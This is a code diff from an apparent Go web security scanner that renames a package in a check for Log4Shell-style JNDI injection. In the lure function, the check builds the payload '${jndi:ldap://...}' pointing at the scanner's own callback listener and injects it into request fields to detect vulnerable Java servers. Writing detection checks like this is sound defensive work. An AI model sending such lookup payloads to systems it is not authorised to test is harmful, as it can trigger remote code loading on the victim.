@@ -6,7 +6,7 @@ package jndi
 import (
 	"path"
 
-	"merlon/internal/engine/dast/attack"
+	"merlon/internal/engine/dast/activescan"
 	"merlon/internal/engine/dast/message"
 	"merlon/internal/finding"
 	"merlon/internal/lazyregexp"
@@ -27,7 +27,7 @@ var rule = &finding.Rule{
 }
 
 // Check is the check. It asks nothing where nobody listens.
-var Check = &attack.Check{ID: "jndi", Rules: []*finding.Rule{rule}, Called: []*finding.Rule{rule},
+var Check = &activescan.Check{ID: "jndi", Rules: []*finding.Rule{rule}, Called: []*finding.Rule{rule},
 	Profile: scan.Standard, Request: request}
 
 // headers are those that logs hold, and that applications read.
@@ -39,7 +39,7 @@ const maxFolders = 20
 // other are platforms without Java.
 var other = lazyregexp.New(`(?i)PHP|ASP\.NET|Express|Werkzeug|gunicorn|uvicorn|Kestrel|IIS|Phusion|Python`)
 
-func request(t *attack.Trial) error {
+func request(t *activescan.Trial) error {
 	if t.Callback == nil {
 		return nil
 	}
@@ -72,15 +72,15 @@ func request(t *attack.Trial) error {
 }
 
 // lure sends one request with a look-up of its own at each point.
-func lure(t *attack.Trial, points []message.Point) (bool, error) {
-	return t.Lure(func(bait func() attack.Bait) (*message.Request, []attack.Hook) {
+func lure(t *activescan.Trial, points []message.Point) (bool, error) {
+	return t.Lure(func(bait func() activescan.Bait) (*message.Request, []activescan.Hook) {
 		r := t.Request
-		var hooks []attack.Hook
+		var hooks []activescan.Hook
 		for i := range points {
 			b := bait()
 			payload := "${jndi:ldap://" + b.Place() + "}"
 			r = r.With(points[i], payload)
-			hooks = append(hooks, attack.Hook{Bait: b, Rule: rule, At: &points[i], Payload: payload,
+			hooks = append(hooks, activescan.Hook{Bait: b, Rule: rule, At: &points[i], Payload: payload,
 				Proof: "The value is an expression that looks something up at a listener; it was looked up."})
 		}
 		return r, hooks
